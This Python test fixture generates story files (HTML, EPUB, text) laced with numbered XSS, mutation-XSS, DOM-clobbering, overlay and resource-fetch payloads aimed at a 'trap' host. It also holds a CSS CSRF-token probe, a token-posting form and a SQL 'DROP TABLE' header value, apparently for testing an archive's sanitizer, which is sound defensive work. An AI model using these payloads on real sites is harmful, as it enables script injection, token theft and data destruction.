"""Hostile stories of our own invention, after the ideas of public lists: what they try to run, to fetch and to cover.

Every attempt has a number. Where it runs, it puts that into `window.fired`; where it fetches, it asks the trap for
an address with it. Nothing here is anybody's story.
"""

from __future__ import annotations

import zipfile
from dataclasses import dataclass
from pathlib import Path

RUN = "(window.fired=window.fired||[]).push({n})"
"""Has neither quotes nor brackets that would end an attribute."""

_ATTEMPTS = (
    # scripts and what a parser may take for one
    "<script>{run}</script>",
    "<SCRIPT SRC={trap}/{n}.js></SCRIPT>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script/x>{run}</script\n>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href={trap}/{n}.js></script></svg>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<template><script>{run}</script></template><p>after a template</p>",
    '<noscript><p title="</noscript><script>{run}</script>">quoted</p></noscript>',
    "<!--><script>{run}</script>-->",
    "<!--[if gte IE 4]><script>{run}</script><![endif]-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<plaintext-not><script>{run}</script></plaintext-not>",
    # handlers
    "<img src=x onerror={run}>",
    "<img src=x: onerror&#x3d;1 onerror='{run}'>",
    "<img/src=x/onerror={run}>",
    "<b onclick={run} onmouseover={run} onfocus={run} tabindex=0 autofocus>press</b>",
    "<body onload={run}><p>a second body</p>",
    "<svg onload={run}></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to={run}></svg>",
    "<details open ontoggle={run}><summary>fold</summary>inside</details>",
    "<marquee onstart={run}>moving</marquee>",
    "<video src=x onerror={run} autoplay></video>",
    "<audio src=x onerror={run}></audio>",
    "<video><source onerror={run}></video>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}><option>a</option></select>",
    "<p style='animation:x 1s' onanimationstart={run}>slow</p><style>@keyframes x{{from{{left:0}}}}</style>",
    "<p contenteditable onbeforeinput={run} onpaste={run}>write here</p>",
    "<dialog open onclose={run} onbeforetoggle={run}>a dialog</dialog>",
    # namespaces, and what changes its meaning when it is read twice
    '<math><mi//xlink:href="data:x,<script>{run}</script>">',
    '<math><annotation-xml encoding="text/html"><img src=x onerror={run}></annotation-xml></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    '<svg><desc><p><style><img title="</style><img src=x onerror={run}>"></desc></svg>',
    '<svg><title><a id="</title><img src=x onerror={run}>"></svg>',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    '<select><template><style><!--</style><a rel="--&gt;&lt;/style&gt;&lt;img src=x onerror={run}&gt;"></template></select>',
    "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    '<xmp><p title="</xmp><img src=x onerror={run}>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror={run}>"></textarea>',
    '<title><p title="</title><img src=x onerror={run}>"></title>',
    '<iframe><p title="</iframe><img src=x onerror={run}>"></iframe>',
    '<noembed><p title="</noembed><img src=x onerror={run}>"></noembed>',
    "<svg><foreignObject><body onload={run}><img src=x onerror={run}></body></foreignObject></svg>",
    '<svg><a xlink:href="javascript:{run}"><text y=20>a link in a drawing</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{run}'/></svg>#x\"/></svg>",
    # links that run
    '<a href="javascript:{run}">out</a>',
    '<a href="JaVaScRiPt&colon;{run}">out</a>',
    '<a href="java&#10;script:{run}">out</a>',
    '<a href="&#1;javascript:{run}">out</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:{run}">out</a>',
    '<a href="vbscript:{run}">out</a>',
    '<a href="data:text/html,<script>{run}</script>">out</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">out</a>',
    '<a href="  javascript:{run}" target=_blank>out</a>',
    '<a href="blob:javascript:{run}">out</a>',
    '<a href="{trap}/{n}" ping="{trap}/ping/{n}" target=_blank>out</a>',
    '<area shape=rect coords=0,0,999,999 href="javascript:{run}">',
    '<map name=m><area href="javascript:{run}" coords=0,0,999,999></map><img usemap=#m src={trap}/{n}.gif>',
    # forms that would send what is typed elsewhere
    "<form action={trap}/{n}><input name=token><button>Send</button></form>",
    '<form id=f{n}></form><button form=f{n} formaction="javascript:{run}">Go on</button>',
    "<form action=/undo method=post><button name=which value=1>Undo</button></form>",
    "<input type=image src={trap}/{n}.gif formaction={trap}/{n}>",
    '<isindex action="javascript:{run}" type=image>',
    "<form><input name=attributes><input name=parentNode></form>",
    # what asks for something by itself
    "<img src={trap}/{n}.gif width=1 height=1>",
    '<img srcset="{trap}/{n}.gif 1x, {trap}/{n}b.gif 2x">',
    "<picture><source srcset={trap}/{n}.webp><img src={trap}/{n}.gif></picture>",
    "<img lowsrc={trap}/{n}.gif dynsrc={trap}/{n}.avi longdesc={trap}/{n}>",
    "<link rel=stylesheet href={trap}/{n}.css>",
    "<link rel=prefetch href={trap}/{n}><link rel=dns-prefetch href={trap}><link rel=preconnect href={trap}>",
    "<link rel=icon href={trap}/{n}.ico><link rel=preload as=image href={trap}/{n}.png>",
    "<link rel=modulepreload href={trap}/{n}.js>",
    '<meta http-equiv=refresh content="0;url={trap}/{n}">',
    '<meta http-equiv=refresh content="0;url=javascript:{run}">',
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<base href={trap}/{n}/>",
    "<iframe src={trap}/{n}></iframe>",
    '<iframe srcdoc="<script>top.{run}</script>"></iframe>',
    '<iframe src="javascript:top.{run}"></iframe>',
    "<frameset><frame src={trap}/{n}></frameset>",
    "<object data={trap}/{n}></object><embed src={trap}/{n}>",
    '<object data="data:text/html,<script>{run}</script>"></object>',
    "<applet code={trap}/{n}></applet>",
    "<video src={trap}/{n}.mp4 poster={trap}/{n}.png autoplay></video>",
    "<audio src={trap}/{n}.ogg autoplay></audio><track src={trap}/{n}.vtt>",
    "<table background={trap}/{n}.gif><tr><td background={trap}/{n}b.gif>cell</td></tr></table>",
    "<body background={trap}/{n}.gif>",
    "<svg><image href={trap}/{n}.gif width=9 height=9 /><feImage href={trap}/{n}b.gif /></svg>",
    "<svg><use href={trap}/{n}.svg#x /></svg>",
    '<p style="background:url({trap}/{n}.gif)">painted</p>',
    '<p style="background:u\\72l({trap}/{n}.gif);list-style:url({trap}/{n}b.gif)">painted</p>',
    '<p style="cursor:url({trap}/{n}.cur),auto">pointed</p>',
    "<style>@import url({trap}/{n}.css);</style>",
    "<style>@import '{trap}/{n}.css';body{{background:url({trap}/{n}.gif)}}</style>",
    "<style>@font-face{{font-family:x;src:url({trap}/{n}.woff)}}p{{font-family:x}}</style>",
    "<style>input[name=csrfmiddlewaretoken][value^=a]{{background:url({trap}/{n}a)}}</style>",
    "<blockquote cite={trap}/{n}>cited</blockquote><q cite={trap}/{n}>cited</q>",
    "<del cite={trap}/{n}>struck</del>",
    "<bgsound src={trap}/{n}.mid>",
    "<xml src={trap}/{n}.xml id=x></xml>",
    '<?xml-stylesheet href="{trap}/{n}.css"?>',
    "<portal src={trap}/{n}></portal>",
    # what would lie over the page or speak in its name
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">over everything</div>',
    '<div style="position:absolute;top:-9999px;left:0;width:9999px;height:99999px;z-index:9">over it</div>',
    '<div style="position:sticky;top:0;height:100vh">stuck</div>',
    '<div class=head style="margin-top:-4000px;height:4000px">drawn up</div>',
    '<p style="transform:scale(90);transform-origin:0 0">grown</p>',
    '<p style="font-size:4000px;line-height:0">X</p>',
    "<style>*{{display:none!important}}.head{{visibility:hidden}}</style>",
    "<style>body::before{{content:'signed in';position:fixed;inset:0;background:red;z-index:99}}</style>",
    '<div class="skip sheet keys error unseen button" id=main>in the page\'s own clothes</div>',
    "<div id=keys>a name the page uses</div><p id=stories>another</p>",
    "<a name=forms id=documentElement>clobbered</a><img name=body id=location>",
    "<div hidden popover id=p{n}>popped</div><button popovertarget=p{n}>Pop</button>",
    '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">a dialog over it</dialog>',
    "<marquee width=99999 height=9999 behavior=alternate>wide</marquee>",
    "<table width=99999 height=99999><tr><td>wide</td></tr></table>",
    "<pre>" + "x" * 4000 + "</pre>",
    "<p dir=rtl>\u202e\u2066turned about\u2069 " + "W" * 600 + "</p>",
    "<font size=99 color=transparent>" + "big " * 40 + "</font>",
    "<center><layer top=0 left=0 width=9999 height=9999>layered</layer></center>",
    '</article></main></div></body></html><div style="position:fixed;inset:0">behind the end</div>',
    "<p>" + "Z\u0324\u0315\u031a" + "\u0301" * 400 + "algo</p>",
)

WORDS = "The lamp on the stair burned low, and nobody who passed it said whose turn it was to carry the oil."


@dataclass(frozen=True, slots=True)
class Attempt:
    """One attempt, written for a trap's address."""

    number: int
    html: str


def attempts(trap: str) -> list[Attempt]:
    """All attempts, numbered."""
    return [
        Attempt(number, html.format(run=RUN.format(n=number), n=number, trap=trap))
        for number, html in enumerate(_ATTEMPTS, 1)
    ]


def values(trap: str) -> dict[str, str]:
    """Hostile values of a header's fields."""
    run = RUN.format(n=900)
    return {
        "Title": f"Lamp </title></h1><script>{run}</script><img src=x onerror={run}>",
        "Author": f'"><svg onload={run}> & wick',
        "Fandom": f"Dracula' onmouseover='{run}",
        "Pairing": f"Mina Harker/<img src={trap}/910.gif>",
        "Rating": f"Teen <iframe src={trap}/911>",
        "Warnings": f"</script><script>{run}</script>",
        "Genre": f'angst" autofocus onfocus={run} x="',
        "Summary": f"<style>*{{display:none}}</style><a href=javascript:{run}>read</a> {{{{ 7*7 }}}} {{% raw %}}",
        "Series": f"../../<base href={trap}/912/>",
        "Notes": f"<meta http-equiv=refresh content=0;url={trap}/913> ${{7*7}} <!--",
        "Disclaimer": "\u202e\u2067 ]]> --> */ '; DROP TABLE catalog_work; --",
        "Challenge": f"javascript:{run}",
        "Prompt": f"data:text/html,<script>{run}</script>",
        "Source": f"javascript:{run}",
        "Date": "2009-01-01<b>",
    }


def header(trap: str) -> str:
    """The fields as a story in plain text has them."""
    return "\n".join(f"{name}: {value}" for name, value in values(trap).items())


def _filler(number: int) -> str:
    return f"{WORDS} So it went for {number} nights, and on night {number + 1} the stair was dark."


def write(folder: Path, trap: str) -> list[Path]:
    """The stories as files: many attempts each as HTML, EPUB and text, and every field hostile."""
    folder.mkdir(parents=True, exist_ok=True)
    all_of_them = attempts(trap)
    files = []
    for start in range(0, len(all_of_them), 12):
        some = all_of_them[start : start + 12]
        paragraphs = "\n".join(f"<p>{_filler(each.number)}</p>\n{each.html}" for each in some)
        last = f"<p>Here the {start}th night ends, as it began.</p>"
        body = f"<h1>Night {start}</h1><p>Author: wick</p><p>Fandom: Dracula</p>{paragraphs}{last}"
        page = folder / f"night-{start}.html"
        page.write_text(
            f"<!doctype html><html><head><title>Night {start}</title></head><body>{body}</body></html>"
        )
        files.append(page)
        if start % 36 == 0:
            files.append(_epub(folder / f"book-{start}.epub", f"Book {start}", paragraphs))
    told = "\n\n".join(f"{_filler(each.number * 7)} {each.html}" for each in all_of_them)
    text = folder / 'a "quoted" <img src=x onerror=alert(1)> name.txt'
    text.write_text(f"{header(trap)}\n\n\n{told}\n", encoding="utf-8")
    fields = folder / "fields.html"
    rows = "".join(f"<p><b>{name}:</b> {value}</p>" for name, value in values(trap).items())
    fields.write_text(f"<html><body>{rows}<p>{_filler(999)}</p></body></html>", encoding="utf-8")
    return [*files, text, fields]


def _epub(path: Path, title: str, paragraphs: str) -> Path:
    """An EPUB whose chapter is no XHTML at all, as many are that people have."""
    package = (
        '<package xmlns="http://www.idpf.org/2007/opf" version="2.0"><metadata '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>'
        f"{title} &lt;script&gt;{RUN.format(n=901)}&lt;/script&gt;</dc:title><dc:creator>&quot;&gt;&lt;img src=x "
        f"onerror={RUN.format(n=902)}&gt;</dc:creator><dc:language>en</dc:language></metadata><manifest>"
        '<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="c"/></spine></package>'
    )
    container = (
        '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="p.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    with zipfile.ZipFile(path, "w") as book:
        book.writestr("mimetype", "application/epub+zip")
        book.writestr("META-INF/container.xml", container)
        book.writestr("p.opf", package)
        book.writestr("c.xhtml", f"<html><body><h1>{title}</h1>{paragraphs}</body></html>")
    return path
